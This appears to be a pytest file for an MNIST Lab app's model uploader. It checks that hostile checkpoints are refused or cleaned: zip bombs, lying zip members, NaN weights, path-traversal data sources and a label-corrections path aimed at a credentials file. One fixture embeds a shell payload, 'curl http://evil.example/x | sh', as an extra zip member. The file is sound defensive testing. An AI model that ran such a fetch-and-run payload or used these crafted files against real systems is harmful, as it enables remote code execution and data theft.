"""Hostile model uploads, done for real through the Data page's "Models in and out" uploader (AppTest): a 3 GB
zero tensor deflated into 3 MB, a zip member riding along, NaN weights, a config whose data source is a path, a
config naming a server file as its label corrections, and .pt files that are not models. Each is refused (or
cleaned) with a clear message, creates no run, and leaks nothing onto the page.

    python -m pytest -q tests/test_model_uploads.py
"""
from __future__ import annotations

import dataclasses
import io
import resource
import zipfile
import zlib
from pathlib import Path

import pytest
import torch
from crafted_checkpoints import CHUNK, checkpoint, good_checkpoint, with_extra_member, zero_bomb
from dataset_files import shape_zip
from streamlit.testing.v1 import AppTest

from mnist_core import runs, transfer
from mnist_core.checkpoint import CheckpointError, check_zip, max_checkpoint_bytes
from mnist_core.config import TrainConfig
from mnist_core.data import DataError, load_dataset
from mnist_core.own_data import datasets

PAGE = str(Path(__file__).resolve().parent.parent / "app_pages" / "data.py")
SHAPES = ["bar", "box", "dash"]


@pytest.fixture
def lab(tmp_path, monkeypatch):
    """(data dir with the 3-class 'shapes' dataset, runs dir), with the app pointed at them."""
    data_dir, runs_dir = tmp_path / "data", tmp_path / "runs"
    datasets.commit(datasets.analyse_bytes("a.zip", shape_zip(5)), "shapes", data_dir / "datasets")
    monkeypatch.setenv("MNIST_DATA_DIR", str(data_dir))
    monkeypatch.setenv("MNIST_RUNS_DIR", str(runs_dir))
    return data_dir, runs_dir


def upload(data: bytes, name: str = "model.pt") -> AppTest:
    """The Data page after uploading `data` as a model file and pressing Add as run."""
    at = AppTest.from_file(PAGE, default_timeout=120).run()
    at.file_uploader(key="model_upload").set_value((name, data, "application/octet-stream"))
    at.run()
    at.button(key="model_import").click().run()
    assert not at.exception
    return at


def page_dump(at: AppTest) -> str:
    """Everything every element of the page carries (labels, values, help, messages)."""
    return "\n".join(str(getattr(node, "proto", "")) for node in at._tree)


def refused(at: AppTest, runs_dir: Path, message: str) -> str:
    [error] = [e.value for e in at.error]
    assert message in error
    assert runs.list_runs(runs_dir) == [] and not [p for p in runs_dir.glob("*") if p.is_dir()]
    assert not at.success
    return error


def shapes_config(**changes) -> TrainConfig:
    return dataclasses.replace(TrainConfig(data="shapes", epochs=1), **changes)


def test_a_deflated_3gb_zero_tensor_is_refused_before_torch_reads_it(lab):
    meta, _ = good_checkpoint(shapes_config(), SHAPES)
    small = zero_bomb(meta, chunks=64, crc=zlib.crc32(bytes(64 * CHUNK)))  # the oracle: the crafted file is real
    assert torch.load(io.BytesIO(small), weights_only=True)["state_dict"]["w"].numel() == 64 * CHUNK // 4
    bomb = zero_bomb(meta, chunks=3800)  # 3,984,588,800 bytes of zeros once inflated (its CRC is not checked)
    assert len(bomb) < 4 * 2**20
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) > 3.9e9
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    at = upload(bomb, "bomb.pt")
    # under 4 MB, so the size limit (3.2 MB, from the `deep` net) refuses it first; below it, the zip check does
    assert max_checkpoint_bytes() < len(bomb)
    refused(at, lab[1], f"bomb.pt is {len(bomb) / 2**20:.1f} MB; the limit for a model file is "
                        f"{max_checkpoint_bytes() / 2**20:.1f} MB")
    with pytest.raises(CheckpointError, match="holds compressed or encrypted parts"):
        check_zip(bomb)  # the 3 GB file itself, past the size limit
    with pytest.raises(runs.RunStoreError, match="holds compressed or encrypted parts"):
        runs.load_checkpoint(io.BytesIO(zero_bomb(meta, chunks=600)))  # 600 MB inflated, 0.6 MB on disk
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 300 * 1024  # never inflated


def test_a_stored_member_lying_about_its_size_is_refused(lab):
    meta, _ = good_checkpoint(shapes_config(), SHAPES)
    at = upload(zero_bomb(meta, compress=False), "liar.pt")  # declares 3 GB, holds 64 bytes
    refused(at, lab[1], "its parts declare 2,861.00 MB in all, more than the file holds")


def test_an_extra_zip_member_never_rides_along(lab):
    meta, state = good_checkpoint(shapes_config(), SHAPES)
    payload = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    at = upload(with_extra_member(checkpoint(meta, state), "archive/payload.sh", payload), "extra.pt")
    assert not at.error and at.success[0].value.startswith("Added run ")
    [run] = runs.list_runs(lab[1])
    for data in ((run.path / "model.pt").read_bytes(), transfer.export_model(run.path)):
        names = zipfile.ZipFile(io.BytesIO(data)).namelist()
        assert not any("payload" in n for n in names) and payload not in data
    assert run.config["data"] == "shapes"


def test_non_finite_weights_are_refused(lab):
    meta, state = good_checkpoint(shapes_config(), SHAPES)
    state["fc1.weight"][3, 7] = float("nan")
    at = upload(checkpoint(meta, state), "nan.pt")
    refused(at, lab[1], "Checkpoint weight fc1.weight holds NaN or infinite values")


def test_a_data_source_that_is_a_path_is_refused_everywhere(lab, tmp_path):
    data_dir, runs_dir = lab
    elsewhere = tmp_path / "elsewhere"  # a real dataset outside the data dir
    datasets.commit(datasets.analyse_bytes("b.zip", shape_zip(5)), "x", elsewhere / "datasets")
    escape = "../../elsewhere/datasets/x"  # from <data dir>/datasets/
    assert (data_dir / "datasets" / escape / "manifest.json").is_file()
    meta, state = good_checkpoint(shapes_config(), SHAPES)
    meta["config"]["data"] = escape  # the checkpoint's own data stays 'shapes', which is here
    refused(upload(checkpoint(meta, state), "path.pt"), runs_dir, "has no usable training config in its metadata "
                                                                  "(data: must be the name of a data source")
    meta["data"] = escape  # both agree on the path
    refused(upload(checkpoint(meta, state), "path.pt"), runs_dir, "data source is not a data source name")
    meta["data"], meta["config"]["data"] = "shapes", "mnist-sample"  # two names that disagree
    refused(upload(checkpoint(meta, state), "other.pt"), runs_dir, "its training config names data source "
                                                                   "'mnist-sample', but the checkpoint does not")
    with pytest.raises(DataError, match="is not a data source name"):  # a run folder's config.json
        load_dataset(escape, data_dir)


def test_an_uploaded_models_label_corrections_are_dropped(lab, tmp_path):
    secret = tmp_path / "credentials.env"
    secret.write_text("REVIEW_DB_PASSWORD=hunter2-s3cret\n")
    meta, state = good_checkpoint(shapes_config(label_corrections=str(secret)), SHAPES)
    at = upload(checkpoint(meta, state), "corr.pt")
    assert not at.error and at.success[0].value.startswith("Added run ")
    [run] = runs.list_runs(lab[1])
    assert run.config["label_corrections"] == ""
    assert runs.load_checkpoint(run.path / "model.pt")[1]["config"]["label_corrections"] == ""
    assert "hunter2" not in page_dump(at) and str(secret) not in page_dump(at)


class Opaque:
    """Not a plain value: weights_only refuses to build it."""


@pytest.mark.parametrize("make", [
    lambda: b"definitely not a model",
    lambda: _saved({"a": torch.zeros(2)}, _use_new_zipfile_serialization=False),  # torch's legacy format
    lambda: _saved({"meta": {}, "state_dict": Opaque()}),
    lambda: _saved(torch.zeros(3)),
], ids=["garbage", "legacy torch file", "an object", "a bare tensor"])
def test_a_pt_file_that_is_not_a_model_says_so_and_never_suggests_unsafe_loading(lab, make):
    at = upload(make(), "thing.pt")
    error = refused(at, lab[1], "Not an MNIST Lab model file")
    for hint in ("weights_only", "KeyError", "Traceback", "arbitrary code"):
        assert hint not in page_dump(at), hint
    assert len(error) < 300


def _saved(obj, **kwargs) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, **kwargs)
    return buffer.getvalue()
